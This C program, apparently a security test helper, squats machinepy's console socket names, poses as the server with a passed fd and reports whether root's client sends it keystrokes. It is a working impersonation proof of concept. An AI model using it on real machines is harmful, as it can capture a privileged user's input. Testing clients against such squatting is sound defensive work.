/* SPDX-License-Identifier: BSD-2-Clause */
/* Attacker: squat machinepy's attach names before root attaches.
 * Binds each argument (a socket path, replaced if it exists, or @NAME,
 * abstract), prints "ready", then waits up to 15 s for an attaching client.
 * To look like the real server it greets with an fd; escaped when the
 * client sends it any byte (root's keystrokes).  Exit 2: nothing bound. */
#include <errno.h>
#include <poll.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define MAX 8

int main(int argc, char **argv) {
    struct pollfd fds[MAX];
    int n = 0;
    for (int i = 1; i < argc && n < MAX; i++) {
        const char *addr = argv[i];
        struct sockaddr_un sa;
        socklen_t len;
        memset(&sa, 0, sizeof sa);
        sa.sun_family = AF_UNIX;
        if (strlen(addr) >= sizeof sa.sun_path)
            continue;
        if (addr[0] == '@') {
            memcpy(sa.sun_path + 1, addr + 1, strlen(addr + 1));
            len = offsetof(struct sockaddr_un, sun_path) + strlen(addr);
        } else {
            unlink(addr);
            strcpy(sa.sun_path, addr);
            len = sizeof sa;
        }
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        if (s < 0 || bind(s, (struct sockaddr *)&sa, len) < 0 || listen(s, 4) < 0) {
            printf("could not squat %s: %s\n", addr, strerror(errno));
            if (s >= 0)
                close(s);
            continue;
        }
        printf("squatting %s\n", addr);
        fds[n].fd = s;
        fds[n].events = POLLIN;
        n++;
    }
    if (n == 0) {
        printf("nothing bound\n");
        return 2;
    }
    printf("ready\n");
    fflush(stdout);
    int got = 0;
    time_t end = time(NULL) + 15;
    while (time(NULL) < end) {
        if (poll(fds, n, 500) <= 0)
            continue;
        for (int i = 0; i < n; i++) {
            if (!(fds[i].revents & POLLIN))
                continue;
            int c = accept(fds[i].fd, NULL, NULL);
            if (c < 0)
                continue;
            printf("a client connected to %s\n", argv[1 + i]);
            char greet[] = "machinepy-console\n";
            char cbuf[CMSG_SPACE(sizeof(int))];
            memset(cbuf, 0, sizeof cbuf);
            struct iovec iov = {greet, sizeof greet - 1};
            struct msghdr m;
            memset(&m, 0, sizeof m);
            m.msg_iov = &iov;
            m.msg_iovlen = 1;
            m.msg_control = cbuf;
            m.msg_controllen = sizeof cbuf;
            struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
            cm->cmsg_level = SOL_SOCKET;
            cm->cmsg_type = SCM_RIGHTS;
            cm->cmsg_len = CMSG_LEN(sizeof(int));
            int one = 1;  /* our stdout: what the victim would take for the console */
            memcpy(CMSG_DATA(cm), &one, sizeof one);
            sendmsg(c, &m, MSG_NOSIGNAL);
            struct timeval tv = {2, 0};
            setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
            char buf[64];
            ssize_t r = recv(c, buf, sizeof buf, 0);
            close(c);
            if (r > 0) {
                printf("ESCAPED: the client sent us %zd bytes\n", r);
                got = 1;
            } else {
                printf("blocked: the client hung up without a byte\n");
            }
            fflush(stdout);
        }
    }
    return got;
}
